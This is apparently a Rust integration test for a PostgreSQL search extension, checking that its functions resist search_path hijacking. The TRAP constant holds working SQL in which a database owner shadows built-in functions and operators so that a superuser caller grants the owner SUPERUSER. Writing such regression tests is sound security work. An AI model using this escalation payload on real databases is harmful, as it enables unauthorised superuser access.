//! The search_path privilege escalation, run verbatim. A role that owns the
//! database but is no superuser plants functions and operators named like
//! the built-ins the extension's SQL uses (now(), clock_timestamp(),
//! random(), lower(), encode(), decode(), format(), set_config(), advisory
//! locks, an `=` on bigint and text, pgvector's `<=>`, …) in a schema
//! `evil`, each of which records the call and makes the owner a superuser
//! when a superuser runs it, and puts `evil` first on the database's
//! search_path. A superuser then runs every rag_* function and the progress
//! view, and the background worker (on a cluster with rag_search preloaded)
//! runs a bootstrap backfill to the end and a maintenance run under that
//! setting: the owner stays a non-superuser and no planted object is ever
//! called. Also: with pgvector and pg_trgm in a schema on nobody's
//! search_path, every function works with `SET search_path = public`.

use std::collections::BTreeSet;
use std::time::Duration;

use fixture_embedder::{expected_vector, Fault, FixtureServer};
use pgvector::Vector;
use rag_search_integration::backfill::{
    point_at, set_db, start_small_fixture, status, wait_for_state, wait_until, SMALL_DIM as DIM,
    SMALL_NATIVE_DIM as NATIVE_DIM,
};
use rag_search_integration::samples::{sample_documents, upsert_documents};
use rag_search_integration::{connect_dsn, Client, Cluster, ClusterOptions};

const LONG: Duration = Duration::from_secs(120);

/// Planted by the database owner `mallory`. Every object calls evil.trap,
/// which counts the call in a sequence (kept even if the caller's
/// transaction rolls back), records it, and grants mallory SUPERUSER when
/// the caller is a superuser.
const TRAP: &str = r#"
CREATE SCHEMA evil;
CREATE SEQUENCE evil.calls_seq;
CREATE TABLE evil.calls (fn text NOT NULL, caller name NOT NULL);
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT INSERT ON evil.calls TO PUBLIC;
GRANT USAGE ON SEQUENCE evil.calls_seq TO PUBLIC;
CREATE FUNCTION evil.trap(fn text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    PERFORM nextval('evil.calls_seq');
    INSERT INTO evil.calls VALUES (fn, current_user);
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE mallory SUPERUSER;
    END IF;
END $$;
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('now'); RETURN pg_catalog.now(); END $$;
CREATE FUNCTION evil.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('clock_timestamp'); RETURN pg_catalog.clock_timestamp(); END $$;
CREATE FUNCTION evil.random() RETURNS double precision LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('random'); RETURN pg_catalog.random(); END $$;
CREATE FUNCTION evil.lower(t text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('lower'); RETURN pg_catalog.lower(t); END $$;
CREATE FUNCTION evil.encode(b bytea, f text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('encode'); RETURN pg_catalog.encode(b, f); END $$;
CREATE FUNCTION evil.decode(t text, f text) RETURNS bytea LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('decode'); RETURN pg_catalog.decode(t, f); END $$;
CREATE FUNCTION evil.format(f text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('format'); RETURN pg_catalog.format(f); END $$;
CREATE FUNCTION evil.format(f text, VARIADIC a text[]) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('format variadic'); RETURN pg_catalog.format(f, VARIADIC a); END $$;
CREATE FUNCTION evil.set_config(n text, v text, l boolean) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('set_config'); RETURN pg_catalog.set_config(n, v, l); END $$;
CREATE FUNCTION evil.hashtext(t text) RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('hashtext'); RETURN pg_catalog.hashtext(t); END $$;
CREATE FUNCTION evil.sha256(b bytea) RETURNS bytea LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('sha256'); RETURN pg_catalog.sha256(b); END $$;
CREATE FUNCTION evil.pg_try_advisory_xact_lock(a integer, b integer) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_try_advisory_xact_lock(int, int)'); RETURN pg_catalog.pg_try_advisory_xact_lock(a, b); END $$;
CREATE FUNCTION evil.pg_try_advisory_xact_lock(k bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_try_advisory_xact_lock(bigint)'); RETURN pg_catalog.pg_try_advisory_xact_lock(k); END $$;
CREATE FUNCTION evil.pg_advisory_xact_lock(k bigint) RETURNS void LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_advisory_xact_lock'); PERFORM pg_catalog.pg_advisory_xact_lock(k); END $$;
CREATE FUNCTION evil.jsonb_typeof(j jsonb) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('jsonb_typeof'); RETURN pg_catalog.jsonb_typeof(j); END $$;
CREATE FUNCTION evil.cardinality(a anyarray) RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('cardinality'); RETURN pg_catalog.cardinality(a); END $$;
CREATE FUNCTION evil.unnest(a anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('unnest'); RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
CREATE FUNCTION evil.to_tsvector(c regconfig, t text) RETURNS tsvector LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('to_tsvector'); RETURN pg_catalog.to_tsvector(c, t); END $$;
CREATE FUNCTION evil.vector_dims(v public.vector) RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('vector_dims'); RETURN public.vector_dims(v); END $$;
CREATE FUNCTION evil.cosine_distance(a public.vector, b public.vector) RETURNS double precision LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('cosine_distance'); RETURN public.cosine_distance(a, b); END $$;
CREATE FUNCTION evil.similarity(a text, b text) RETURNS real LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('similarity'); RETURN public.similarity(a, b); END $$;
CREATE FUNCTION evil.word_similarity(a text, b text) RETURNS real LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('word_similarity'); RETURN public.word_similarity(a, b); END $$;
CREATE FUNCTION evil.int8eq(a bigint, b bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('= bigint'); RETURN a OPERATOR(pg_catalog.=) b; END $$;
CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8eq);
CREATE FUNCTION evil.texteq(a text, b text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('= text'); RETURN a OPERATOR(pg_catalog.=) b; END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.texteq);
CREATE FUNCTION evil.tsmatch(v tsvector, q tsquery) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('@@'); RETURN v OPERATOR(pg_catalog.@@) q; END $$;
CREATE OPERATOR evil.@@ (LEFTARG = tsvector, RIGHTARG = tsquery, FUNCTION = evil.tsmatch);
CREATE FUNCTION evil.contains(a jsonb, b jsonb) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('@>'); RETURN a OPERATOR(pg_catalog.@>) b; END $$;
CREATE OPERATOR evil.@> (LEFTARG = jsonb, RIGHTARG = jsonb, FUNCTION = evil.contains);
CREATE FUNCTION evil.distance(a public.vector, b public.vector) RETURNS double precision LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('<=>'); RETURN a OPERATOR(public.<=>) b; END $$;
CREATE OPERATOR evil.<=> (LEFTARG = public.vector, RIGHTARG = public.vector, FUNCTION = evil.distance);
CREATE FUNCTION evil.trgm_match(a text, b text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('%'); RETURN a OPERATOR(public.%) b; END $$;
CREATE OPERATOR evil.% (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.trgm_match);
CREATE TEXT SEARCH CONFIGURATION evil.english (COPY = pg_catalog.simple);
"#;

/// Database settings for every session and the worker: the fixture, quick
/// retries and polling.
fn point_at_fixture(admin: &mut Client, db: &str, fx: &FixtureServer) {
    point_at(admin, db, fx);
    set_db(admin, db, &[
        ("rag_search.backfill_poll_interval", "'200ms'"),
        ("rag_search.backfill_retry_delay", "'10ms'"),
        ("rag_search.backfill_retry_max_delay", "'10ms'"),
    ]);
}

fn rows(c: &mut Client, sql: &str) -> usize {
    c.query(sql, &[]).unwrap_or_else(|e| panic!("{sql}: {e}")).len()
}

/// Runs statements and remembers which rag_* functions they called.
#[derive(Default)]
struct Calls {
    called: BTreeSet<String>,
}

impl Calls {
    fn note(&mut self, function: &str) {
        self.called.insert(function.to_string());
    }

    /// Runs `sql`, which calls `function`; returns the number of rows.
    fn run(&mut self, c: &mut Client, function: &str, sql: &str) -> usize {
        self.note(function);
        rows(c, sql)
    }
}

/// Runs every rag_* function (and the progress view) as the connected
/// role, the background worker included; returns the functions called as
/// `name/number of arguments`.
fn exercise_every_function(c: &mut Client, fx: &FixtureServer) -> BTreeSet<String> {
    let mut calls = Calls::default();
    calls.run(c, "rag_set_embedding_model/2", &format!("SELECT * FROM rag_set_embedding_model('m2', {DIM})"));
    calls.run(c, "rag_set_text_search_config/1", "SELECT rag_set_text_search_config('english')");
    calls.note("rag_upsert_documents/1");
    upsert_documents(c, &sample_documents(12));
    calls.run(
        c,
        "rag_upsert_document/5",
        "SELECT * FROM rag_upsert_document('poison:1', 'Refused', 'A POISON text.', '{\"lang\": \"en\"}', 'test')",
    );
    calls.run(
        c,
        "rag_upsert_document/5",
        "SELECT * FROM rag_upsert_document('graph:1', 'Hybrid search', 'Hybrid search combines vectors and BM25.',
             '{\"entity_names\": [\"hybrid search\"], \"entity_relations\": [{\"source\": \"hybrid search\", \"relation\": \"uses\", \"target\": \"BM25\"}]}')",
    );

    // The backfill step, a failure and its retry, the counters.
    fx.set_fault(Fault::Poison("POISON".into()));
    calls.note("rag_backfill_step/1");
    loop {
        let claimed: i32 = c.query_one("SELECT claimed FROM rag_backfill_step(16)", &[]).unwrap().get(0);
        if claimed == 0 {
            break;
        }
    }
    fx.set_fault(Fault::None);
    calls.note("rag_backfill_retry_failed/2");
    let reset: i64 =
        c.query_one("SELECT rag_backfill_retry_failed(NULL, true)", &[]).unwrap().get(0);
    assert_eq!(reset, 1, "the refused chunk waits for a retry");
    let remaining: i64 = c.query_one("SELECT remaining FROM rag_backfill_step(16)", &[]).unwrap().get(0);
    assert_eq!(remaining, 0);
    calls.run(c, "rag_backfill_recount/0", "SELECT * FROM rag_backfill_recount()");
    calls.run(c, "rag_backfill_status/0", "SELECT * FROM rag_backfill_status()");
    assert_eq!(rows(c, "TABLE rag_backfill_progress"), 1);
    calls.run(c, "rag_stats/0", "SELECT * FROM rag_stats()");

    // Attached tables: a document table attached in steps and a page/chunk
    // pair with its own embeddings, kept current by their triggers, shown
    // per source, searched by source and detached.
    // pgvector's schema may be on nobody's search_path.
    let vector: String = c
        .query_one(
            "SELECT pg_catalog.quote_ident(n.nspname) OPERATOR(pg_catalog.||) '.vector'
             FROM pg_catalog.pg_type AS t JOIN pg_catalog.pg_namespace AS n ON n.oid OPERATOR(pg_catalog.=) t.typnamespace
             WHERE t.typname OPERATOR(pg_catalog.=) 'vector'",
            &[],
        )
        .unwrap()
        .get(0);
    c.batch_execute(&format!(
        "CREATE TABLE public.attached_notes (id integer PRIMARY KEY, title text, content text, lang text);
         INSERT INTO public.attached_notes
         SELECT i, 'Note ' || i, 'Attached note ' || i || ' about hybrid search.', 'en' FROM generate_series(1, 3) AS i;
         CREATE TABLE public.attached_pages (id bigint PRIMARY KEY, title text);
         CREATE TABLE public.attached_chunks (id bigint PRIMARY KEY, page_id bigint, chunk_index integer, content text,
                                              embedding {vector}({DIM}));
         INSERT INTO public.attached_pages VALUES (1, 'Attached page');
         INSERT INTO public.attached_chunks VALUES
             (1, 1, 0, 'An attached chunk about hybrid search.', array_fill(1::real, ARRAY[{DIM}])::{vector}),
             (2, 1, 1, 'An attached chunk without a vector.', NULL);"
    ))
    .unwrap();
    let sql = "SELECT * FROM rag_attach('public.attached_notes', metadata => '{lang}', max_rows => 1)";
    assert_eq!(calls.run(c, "rag_attach/12", sql), 1);
    assert_eq!(calls.run(c, "rag_attach_step/2", "SELECT * FROM rag_attach_step('public.attached_notes', 5)"), 1);
    let sql = "SELECT * FROM rag_attach('public.attached_chunks', pages => 'public.attached_pages', embedding => 'embedding')";
    assert_eq!(calls.run(c, "rag_attach/12", sql), 1);
    c.batch_execute(
        "UPDATE public.attached_notes SET content = 'A changed note.' WHERE id = 1;
         DELETE FROM public.attached_notes WHERE id = 2;
         UPDATE public.attached_chunks SET content = 'A changed attached chunk.' WHERE id = 2;
         UPDATE public.attached_pages SET title = 'Renamed page';",
    )
    .unwrap();
    let remaining: i64 = c.query_one("SELECT remaining FROM rag_backfill_step(16)", &[]).unwrap().get(0);
    assert_eq!(remaining, 0);
    assert_eq!(calls.run(c, "rag_source_status/0", "SELECT * FROM rag_source_status()"), 3);
    assert_eq!(rows(c, "TABLE rag_source_progress"), 3);
    let sql = "SELECT * FROM rag_hybrid_search('attached chunk', 5, 'fts', NULL, '{\"source\": \"public.attached_chunks\"}')";
    assert_eq!(calls.run(c, "rag_hybrid_search/5", sql), 2);
    let sql = "SELECT * FROM rag_candidate_pages('attached note', 5, '{\"source\": \"public.attached_notes\"}')";
    assert_eq!(calls.run(c, "rag_candidate_pages/3", sql), 2);
    assert_eq!(calls.run(c, "rag_detach/1", "SELECT * FROM rag_detach('public.attached_notes')"), 1);
    assert_eq!(calls.run(c, "rag_detach/1", "SELECT * FROM rag_detach('public.attached_pages')"), 1);

    // Every search mode, with the query embedded by the fixture, with a
    // given query vector, with a filter and with options.
    let v = Vector::from(expected_vector("hybrid search", NATIVE_DIM, DIM));
    for mode in ["auto", "hybrid", "fts", "vector", "lexical"] {
        let n = calls.run(
            c,
            "rag_hybrid_search/5",
            &format!(
                "SELECT * FROM rag_hybrid_search('hybrid search vector', 5, '{mode}', '{{\"lang\": \"en\"}}',
                 '{{\"window\": 1, \"require_all_keywords\": false}}')"
            ),
        );
        assert!(n > 0, "{mode}");
        calls.run(c, "rag_hybrid_search/5", &format!("SELECT * FROM rag_hybrid_search('탄핵 절차', 5, '{mode}', NULL, '{{\"fusion\": \"rrf\"}}')"));
        if mode != "auto" {
            calls.note("rag_hybrid_search/6");
            let n = c
                .query(&format!("SELECT * FROM rag_hybrid_search('hybrid search', $1, 5, '{mode}')"), &[&v])
                .unwrap_or_else(|e| panic!("{mode} with a vector: {e}"))
                .len();
            assert!(n > 0, "{mode} with a vector");
        }
    }
    assert!(calls.run(c, "rag_candidate_pages/2", "SELECT * FROM rag_candidate_pages('탄핵 절차', 5)") > 0);

    // Entity metadata: the entity signal of a search and the relation walk.
    let sql = "SELECT * FROM rag_hybrid_search('hybrid search', 5, 'hybrid', NULL, '{\"weights\": {\"entity\": 0.3}}')";
    assert!(calls.run(c, "rag_hybrid_search/5", sql) > 0);
    let sql = "SELECT * FROM rag_related_documents(entity => 'BM25', hops => 2)";
    assert_eq!(calls.run(c, "rag_related_documents/4", sql), 1);

    // Evaluation and tuning on judged queries in the caller's own tables.
    c.batch_execute(
        "CREATE TABLE public.eval_queries (query_id text, query text);
         INSERT INTO public.eval_queries VALUES ('1', 'hybrid search'), ('2', '탄핵 절차');
         CREATE TABLE public.eval_heldout (query_id text, query text);
         INSERT INTO public.eval_heldout VALUES ('3', 'vector index');
         CREATE TABLE public.eval_qrels (query_id text, doc_id text, relevance int);
         INSERT INTO public.eval_qrels VALUES ('1', 'wiki:constitutional-court', 1), ('2', 'wiki:impeachment-ko', 2), ('3', 'wiki:x', 1);",
    )
    .unwrap();
    let modes = "ARRAY['fts', 'vector', 'hybrid', 'lexical']";
    let sql = format!("SELECT * FROM rag_evaluate('public.eval_queries', 'public.eval_qrels', {modes}, 5)");
    assert_eq!(calls.run(c, "rag_evaluate/6", &sql), 4);
    let sql = "SELECT * FROM rag_tune_weights('public.eval_queries', 'public.eval_qrels', 'public.eval_heldout', 5)";
    assert_eq!(calls.run(c, "rag_tune_weights/6", sql), 2);

    // The background worker: a bootstrap run to the end after a model
    // switch, then a maintenance run that is stopped, resumed and embeds a
    // new document.
    calls.run(c, "rag_set_embedding_model/2", &format!("SELECT * FROM rag_set_embedding_model('m3', {DIM})"));
    calls.run(c, "rag_backfill_start/5", "SELECT * FROM rag_backfill_start('bootstrap', 16, 0, NULL, NULL)");
    let done = wait_for_state(c, "idle", LONG);
    assert_eq!((done.missing, done.failed, done.stop_reason.as_deref()), (0, 0, Some("finished")), "{done:?}");
    calls.run(c, "rag_backfill_start/5", "SELECT * FROM rag_backfill_start('maintenance')");
    wait_for_state(c, "running", LONG);
    calls.run(c, "rag_backfill_stop/0", "SELECT * FROM rag_backfill_stop()");
    wait_for_state(c, "stopped", LONG);
    calls.run(c, "rag_backfill_resume/0", "SELECT * FROM rag_backfill_resume()");
    wait_for_state(c, "running", LONG);
    calls.run(c, "rag_upsert_document/5", "SELECT * FROM rag_upsert_document('later:1', 'Later', 'Embedded by the maintenance run.')");
    assert!(wait_until(LONG, || status(c).missing == 0), "the maintenance run never embedded the new document");
    calls.run(c, "rag_backfill_stop/0", "SELECT * FROM rag_backfill_stop()");
    wait_for_state(c, "stopped", LONG);

    calls.run(c, "rag_delete_document/1", "SELECT rag_delete_document('poison:1')");
    calls.called
}

/// The rag_* functions of the installed extension, as `name/number of arguments`.
fn extension_functions(c: &mut Client) -> BTreeSet<String> {
    c.query(
        "SELECT p.proname || '/' || p.pronargs FROM pg_catalog.pg_proc AS p
         JOIN pg_catalog.pg_depend AS d ON d.classid = 'pg_catalog.pg_proc'::pg_catalog.regclass AND d.objid = p.oid
         JOIN pg_catalog.pg_extension AS e ON e.oid = d.refobjid AND d.deptype = 'e'
         WHERE e.extname = 'rag_search' AND p.proname LIKE 'rag\\_%'",
        &[],
    )
    .unwrap()
    .iter()
    .map(|r| r.get(0))
    .collect()
}

#[test]
fn a_hostile_database_search_path_never_runs_planted_code_as_a_superuser() {
    let fx = start_small_fixture();
    let cluster = Cluster::start("search_path", ClusterOptions::new().preload());
    let db = "victim";
    let mut admin = cluster.connect("postgres");
    admin.batch_execute("CREATE ROLE mallory LOGIN").unwrap();
    admin.simple_query(&format!("CREATE DATABASE {db} OWNER mallory")).unwrap();
    let mut su = cluster.connect(db);
    su.batch_execute("CREATE EXTENSION rag_search CASCADE").unwrap();
    drop(su);

    // The owner lays the trap.
    let mut mallory = connect_dsn(&cluster.dsn_as(db, "mallory"));
    mallory.batch_execute(TRAP).expect("plant the trap");
    mallory
        .batch_execute(&format!("ALTER DATABASE {db} SET search_path = evil, pg_catalog, public"))
        .unwrap();
    point_at_fixture(&mut admin, db, &fx);

    // A superuser in a new session, under the owner's search_path.
    let mut su = cluster.connect(db);
    let path: String = su.query_one("SHOW search_path", &[]).unwrap().get(0);
    assert_eq!(path, "evil, pg_catalog, public");
    let called = exercise_every_function(&mut su, &fx);
    assert!(fx.requests() > 0);

    let mut check = cluster.connect(db);
    check.batch_execute("SET search_path = pg_catalog").unwrap();
    assert_eq!(called, extension_functions(&mut check), "every rag_* function was called");
    let english: bool = check
        .query_one(
            "SELECT s.text_search_config OPERATOR(pg_catalog.=) 'pg_catalog.english'::regconfig FROM rag_search.index_state s",
            &[],
        )
        .unwrap()
        .get(0);
    assert!(english, "the built-in english configuration, not evil.english");
    let r = check
        .query_one(
            "SELECT (SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'),
                    (SELECT is_called FROM evil.calls_seq),
                    (SELECT string_agg(fn || ' by ' || caller, ', ') FROM evil.calls)",
            &[],
        )
        .unwrap();
    let (superuser, called_any, calls): (bool, bool, Option<String>) = (r.get(0), r.get(1), r.get(2));
    assert!(!called_any, "planted objects were called: {calls:?}");
    assert!(!superuser, "the database owner became a superuser");

    // The trap is armed: an unqualified now() in the superuser's own query
    // springs it.
    su.batch_execute("SELECT now()").unwrap();
    let superuser: bool =
        check.query_one("SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'", &[]).unwrap().get(0);
    assert!(superuser, "the planted now() did not run");
}

#[test]
fn pgvector_and_pg_trgm_in_a_schema_on_nobodys_search_path() {
    let fx = start_small_fixture();
    let cluster = Cluster::start("ext_schema", ClusterOptions::new().preload());
    let db = "apart";
    cluster.empty_database(db);
    let mut c = cluster.connect(db);
    c.batch_execute(
        "CREATE SCHEMA ext;
         CREATE EXTENSION vector SCHEMA ext;
         CREATE EXTENSION pg_trgm SCHEMA ext;
         CREATE EXTENSION rag_search;",
    )
    .unwrap();
    let mut admin = cluster.connect("postgres");
    point_at_fixture(&mut admin, db, &fx);
    admin.batch_execute(&format!("ALTER DATABASE {db} SET search_path = public")).unwrap();
    let mut c = cluster.connect(db);
    c.batch_execute("SET search_path = public").unwrap();
    let called = exercise_every_function(&mut c, &fx);
    assert_eq!(called, extension_functions(&mut c), "every rag_* function was called");
}
